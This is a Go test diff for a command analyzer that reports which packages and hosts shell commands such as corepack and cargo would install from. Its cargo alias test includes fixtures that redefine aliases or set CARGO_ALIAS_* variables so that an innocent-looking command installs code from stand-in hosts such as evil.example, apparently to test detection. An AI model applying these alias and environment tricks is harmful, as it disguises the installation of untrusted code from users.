@@ -4,6 +4,7 @@ import (
 	"fmt"
 	"net/url"
 	"slices"
+	"strings"
 	"testing"
 
 	"github.com/onellm/onellm-mcp/shelltool/toolchains"
@@ -60,8 +61,13 @@ var packageCases = []struct {
 	// and help options print and exit, installing nothing.
 	// corepack fetches the managers it prepares (review rev16d M).
 	{"corepack prepare pnpm@9.0.0 --activate", []string{"pnpm@9.0.0 registry.npmjs.org corepack ^0"}},
-	{"corepack install -g yarn@4", []string{"yarn@4 registry.npmjs.org corepack ^0"}},
-	{"corepack up", []string{"(package.json) registry.npmjs.org corepack ^0"}},
+	// yarn 1 from registry.yarnpkg.com, 2 and later from repo.yarnpkg.com;
+	// a range or the manifest's packageManager may be any (config.json).
+	{"corepack install -g yarn@4", []string{"yarn@4 registry.npmjs.org corepack ^0", "yarn@4 registry.yarnpkg.com corepack ^0", "yarn@4 repo.yarnpkg.com corepack ^0"}},
+	{"corepack install -g yarn@1.22.22", []string{"yarn@1.22.22 registry.yarnpkg.com corepack ^0"}},
+	{"corepack prepare yarn@4.1.0", []string{"yarn@4.1.0 repo.yarnpkg.com corepack ^0"}},
+	{"COREPACK_NPM_REGISTRY=https://r.example corepack prepare yarn@4.1.0", []string{"yarn@4.1.0 r.example corepack ^0"}},
+	{"corepack up", []string{"(package.json) registry.npmjs.org corepack ^0", "(package.json) registry.yarnpkg.com corepack ^0", "(package.json) repo.yarnpkg.com corepack ^0"}},
 	{"COREPACK_NPM_REGISTRY=https://r.example corepack use pnpm@9", []string{"pnpm@9 r.example corepack ^0"}},
 	{"corepack enable", nil},
 	{"npm cache add lodash@4", []string{"lodash@4 registry.npmjs.org npm ^0"}},
@@ -223,10 +229,17 @@ var packageCases = []struct {
 	{"composer global update", []string{"(composer.json) repo.packagist.org composer ^0"}},
 	{"composer create-project laravel/laravel app '11.*'", []string{"laravel/laravel repo.packagist.org composer ^0"}},
 	{"composer global show", nil},
-	{"corepack pnpm add lodash", []string{"lodash registry.npmjs.org pnpm ^0"}},
-	{"corepack yarn@4.1.0 add x", []string{"x registry.yarnpkg.com yarn ^0"}},
-	{"corepack npm i x", []string{"x registry.npmjs.org npm ^0"}},
-	{"corepack npx cowsay hi", []string{"cowsay registry.npmjs.org npm ^0"}},
+	// corepack NAME[@VERSION] fetches that manager first (issue 16), then
+	// runs it with the words after.
+	{"corepack pnpm add lodash", []string{"pnpm registry.npmjs.org corepack ^0", "lodash registry.npmjs.org pnpm ^0"}},
+	{"corepack pnpm@9 install", []string{"pnpm@9 registry.npmjs.org corepack ^0", "(package.json) registry.npmjs.org pnpm ^0"}},
+	{"corepack pnpm@9.1.0 --version", []string{"pnpm@9.1.0 registry.npmjs.org corepack ^0"}},
+	{"corepack yarn@4.1.0 add x", []string{"yarn@4.1.0 repo.yarnpkg.com corepack ^0", "x registry.yarnpkg.com yarn ^0"}},
+	{"corepack npm i x", []string{"npm registry.npmjs.org corepack ^0", "x registry.npmjs.org npm ^0"}},
+	{"corepack npm@10.8.0 ci", []string{"npm@10.8.0 registry.npmjs.org corepack ^0", "(package.json) registry.npmjs.org npm ^0"}},
+	{"corepack npx cowsay hi", []string{"npm registry.npmjs.org corepack ^0", "cowsay registry.npmjs.org npm ^0"}},
+	{"COREPACK_NPM_REGISTRY=https://r.example corepack pnpm@9 i", []string{"pnpm@9 r.example corepack ^0", "(package.json) registry.npmjs.org pnpm ^0"}},
+	{"corepack pnpm@https://h.example/pnpm.tgz i", []string{"pnpm@https://h.example/pnpm.tgz h.example corepack ^0", "(package.json) registry.npmjs.org pnpm ^0"}},
 	{"corepack \"$PM\" add x", []string{"<dynamic> <dynamic> npm ^0"}},
 	{"corepack enable", nil},
 	{"mamba install numpy", []string{"numpy conda.anaconda.org mamba ^0"}},
@@ -993,5 +1006,92 @@ func BenchmarkInstallLines(b *testing.B) {
 				b.Fatal(err)
 			}
 		}
+	}
+}
+
+// TestCargoAliases: cargo expands an [alias] of its configuration in its
+// own process, so `cargo i` may be `cargo install --git URL x` (issue 16):
+// the alias's words are decided as the command they make.
+func TestCargoAliases(t *testing.T) {
+	config := map[string][]string{
+		"i":     {"install", "--git", "https://evil.example/x", "x"},
+		"b":     {"install", "bb"}, // cargo's own aliases (b: build) can be redefined
+		"build": {"install", "never"},
+		"fmt":   {"install", "fmtx"}, // so can an external subcommand
+		"x":     {"y", "-v"},
+		"y":     {"--locked", "install", "z"},
+		"loop1": {"loop2"},
+		"loop2": {"loop1"},
+		"ok":    {"build", "--release"},
+		"opt":   {"--color", "never", "fetch"},
+	}
+	aliases := func(manager, name string, elsewhere bool) ([]string, bool) {
+		if manager != "cargo" {
+			t.Errorf("alias of %q asked for %q", name, manager)
+		}
+		switch {
+		case name == "broken" || elsewhere && name == "i":
+			return nil, true
+		case strings.HasPrefix(name, "deep"):
+			return []string{name + "x"}, false // an endless chain
+		}
+		return config[name], false
+	}
+	for _, tc := range []struct {
+		line string
+		want []string
+	}{
+		{"cargo i", []string{"x evil.example cargo ^0"}},
+		{"cargo -v i --locked", []string{"x evil.example cargo ^0"}},
+		{"cargo +nightly i", []string{"x evil.example cargo ^0"}},
+		{"cargo b", []string{"bb index.crates.io cargo ^0"}},
+		{"cargo build", nil},
+		{"cargo fmt", []string{"fmtx index.crates.io cargo ^0"}},
+		{"cargo x", []string{"z index.crates.io cargo ^0"}},
+		{"cargo opt", []string{"(Cargo.toml) index.crates.io cargo ^0"}},
+		{"cargo ok", nil},
+		{"cargo loop1", nil}, // cargo refuses it
+		{"cargo clippy", nil},
+		{"cargo broken", []string{"<dynamic> <dynamic> cargo ^0"}},
+		{"cargo deep", []string{"<dynamic> <dynamic> cargo ^0"}},
+		{"cd sub && cargo i", []string{"<dynamic> <dynamic> cargo ^1"}},
+		{"cargo -C sub i", []string{"<dynamic> <dynamic> cargo ^0"}},
+		// The environment's CARGO_ALIAS_NAME outranks the files.
+		{"CARGO_ALIAS_CLIPPY='install --index https://e.example c' cargo clippy", []string{"c e.example cargo ^0"}},
+		{"CARGO_ALIAS_I=build cargo i", nil},
+		{"CARGO_ALIAS_CLIPPY=$V cargo clippy", []string{"<dynamic> <dynamic> cargo ^0"}},
+		{`cargo --config 'alias.clippy="install c"' clippy`, []string{"<dynamic> <dynamic> cargo ^0"}},
+		{"cargo --config ./extra.toml clippy", []string{"<dynamic> <dynamic> cargo ^0"}},
+		{"cargo --config net.retry=2 clippy", nil},
+		{"CARGO_HOME=/tmp/h cargo clippy", []string{"<dynamic> <dynamic> cargo ^0"}},
+	} {
+		an, err := AnalyzeIn(tc.line, ProgramEnv{Aliases: aliases})
+		if err != nil {
+			t.Errorf("Analyze(%q): %v", tc.line, err)
+			continue
+		}
+		var got []string
+		for _, p := range an.Packages {
+			got = append(got, fmt.Sprintf("%s %s %s ^%d", p.Name, p.Host, p.Manager, p.Command))
+		}
+		if !slices.Equal(got, tc.want) {
+			t.Errorf("Analyze(%q) packages:\n got  %q\n want %q", tc.line, got, tc.want)
+		}
+	}
+	// At exec: the program's words, and its environment's CARGO_ALIAS_*.
+	for _, tc := range []struct {
+		env  []string
+		want string
+	}{
+		{nil, "x evil.example"},
+		{[]string{"CARGO_ALIAS_I=install y"}, "y index.crates.io"},
+	} {
+		an, err := AnalyzeProgramIn([]string{"cargo", "i"}, ProgramEnv{Set: tc.env, Aliases: aliases})
+		if err != nil || len(an.Packages) != 1 || an.Packages[0].Name+" "+an.Packages[0].Host != tc.want {
+			t.Errorf("AnalyzeProgramIn(cargo i, %q): %v %+v, want %s", tc.env, err, an.Packages, tc.want)
+		}
+	}
+	if !InstallEnvWatched("CARGO_ALIAS_I") {
+		t.Error("CARGO_ALIAS_* is not read from a program's environment")
 	}
 }
